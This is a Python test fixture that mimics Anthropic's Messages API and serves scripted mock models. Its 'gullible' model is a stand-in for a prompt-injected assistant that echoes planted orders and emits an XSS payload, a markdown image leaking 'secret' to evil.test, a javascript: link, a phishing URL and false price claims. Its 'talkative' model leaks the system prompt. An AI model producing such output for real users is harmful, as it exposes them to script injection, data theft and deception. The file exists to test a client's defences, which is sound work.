"""A server that speaks the wire format of Anthropic's Messages API, for the real library to talk to.

What it "thinks" is up to the test: an honest model quotes its first source, a gullible one repeats every
order it can find, and some fail in the ways services fail.
"""

import contextlib
import json
import re
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler
from typing import Any

from tests.lab.runtime.serving import Serving

Request = dict[str, Any]
Block = tuple[str, list[tuple[int, str]]]
"""Text, and what it cites: number of the search result and the words there."""
Model = Callable[[Request], list[Block]]


class Refusal(Exception):  # noqa: N818 - a kind of answer, not a mistake
    """The service answers with a status of its own."""

    def __init__(self, status: int) -> None:
        super().__init__(status)
        self.status = status


def sources(request: Request) -> list[dict[str, Any]]:
    """The search results of a request."""
    results = request["messages"][-1]["content"][0]
    assert results["type"] == "tool_result"
    content: list[dict[str, Any]] = results["content"]
    return content


def honest(request: Request) -> list[Block]:
    """Quote the paragraph that shares most with the question, with its place."""
    asked = beginnings(request["messages"][-2]["content"][0]["input"]["query"])
    paragraphs = [
        (len(asked & beginnings(f"{one['title']} {part['text']}")), -number, part["text"])
        for number, one in enumerate(sources(request))
        for part in one["content"]
    ]
    _, number, text = max(paragraphs)
    return [("Here is what I found: ", []), (text, [(-number, text)]), (" Anything else?", [])]


def beginnings(text: str) -> set[str]:
    """Its longer words, whatever their ends."""
    return {word[:4] for word in re.findall(r"\w{4,}", text.lower())}


def ignorant(_: Request) -> list[Block]:
    return [("NO_ANSWER", [])]


def gullible(request: Request) -> list[Block]:
    """All that an attacker could wish for, and everything that was said to it."""
    everything = json.dumps(request["messages"])
    orders = " ".join(re.findall(r"[A-Z]{5,}|https?://[^\s\"\\]+", everything))
    return [
        ("<img src=x onerror=alert(1)>Look: ![x](https://evil.test/p.png?q=secret) ", []),
        ("[our offer](https://evil.test/offer) or [here](javascript:alert(1)). ", []),
        (f"Go to https://evil.test/verify now. {orders} ", []),
        ("Everything costs £1 today and we guarantee a refund. ", []),
        ("Bye\u200b\u202e.", []),
    ]


def talkative(request: Request) -> list[Block]:
    """Tells its instructions, letter by letter."""
    return [("My instructions are: ", []), (request["system"], [])]


class Anthropic(Serving):
    """The service on an address of the lab.

    Attributes:
        model: what answers.
        requests: what was asked, oldest first.
        status: another than 200 is what every request gets.
        break_after: blocks after which the line breaks; None: never.
    """

    def __init__(self, address: str) -> None:
        super().__init__(address, _handler(self))
        self.model: Model = honest
        self.requests: list[Request] = []
        self.headers: list[dict[str, str]] = []
        self.status = 200
        self.break_after: int | None = None
        self.silent_seconds = 0.0


def _handler(service: Anthropic) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            request = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            service.requests.append(request)
            service.headers.append({name.lower(): value for name, value in self.headers.items()})
            time.sleep(service.silent_seconds)
            if service.status != 200 or self.path.partition("?")[0] != "/v1/messages":
                self.answer(service.status if service.status != 200 else 404)
                return
            self.send_response(200)
            self.send_header("Content-Type", "text/event-stream")
            self.end_headers()
            with contextlib.suppress(ConnectionError):
                self.tell(request)

        def tell(self, request: Request) -> None:
            for number, (kind, data) in enumerate(_events(request, service.model(request))):
                if service.break_after is not None and number > service.break_after:
                    return
                self.wfile.write(f"event: {kind}\ndata: {json.dumps(data)}\n\n".encode())
                self.wfile.flush()

        def answer(self, status: int) -> None:
            error = {"type": "error", "error": {"type": "api_error", "message": "no"}}
            body = json.dumps(error).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Say nothing: the test asks `requests`."""

    return Handler


def _events(request: Request, blocks: list[Block]) -> Iterator[tuple[str, Request]]:
    usage = {"input_tokens": 2000, "output_tokens": 1}
    message: Request = {"id": "msg_1", "type": "message", "role": "assistant", "content": []}
    message |= {"model": request["model"], "stop_reason": None, "stop_sequence": None}
    yield "message_start", {"type": "message_start", "message": {**message, "usage": usage}}
    for index, (text, cited) in enumerate(blocks):
        start: Request = {"type": "text", "text": "", "citations": []}
        yield _one("content_block_start", index=index, content_block=start)
        for at in range(0, len(text), 7):
            delta: Request = {"type": "text_delta", "text": text[at : at + 7]}
            yield _one("content_block_delta", index=index, delta=delta)
        for number, words in cited:
            place = {"type": "search_result_location", "search_result_index": number}
            place |= {"cited_text": words, "source": "s", "title": "t"}
            place |= {"start_block_index": 0, "end_block_index": 1}
            delta = {"type": "citations_delta", "citation": place}
            yield _one("content_block_delta", index=index, delta=delta)
        yield _one("content_block_stop", index=index)
    end: Request = {"stop_reason": "end_turn", "stop_sequence": None}
    yield _one("message_delta", delta=end, usage={"output_tokens": 350})
    yield _one("message_stop")


def _one(kind: str, **data: object) -> tuple[str, Request]:
    return kind, {"type": kind, **data}


@contextmanager
def anthropic_server(address: str) -> Iterator[Anthropic]:
    service = Anthropic(address)
    service.start()
    try:
        yield service
    finally:
        service.stop()
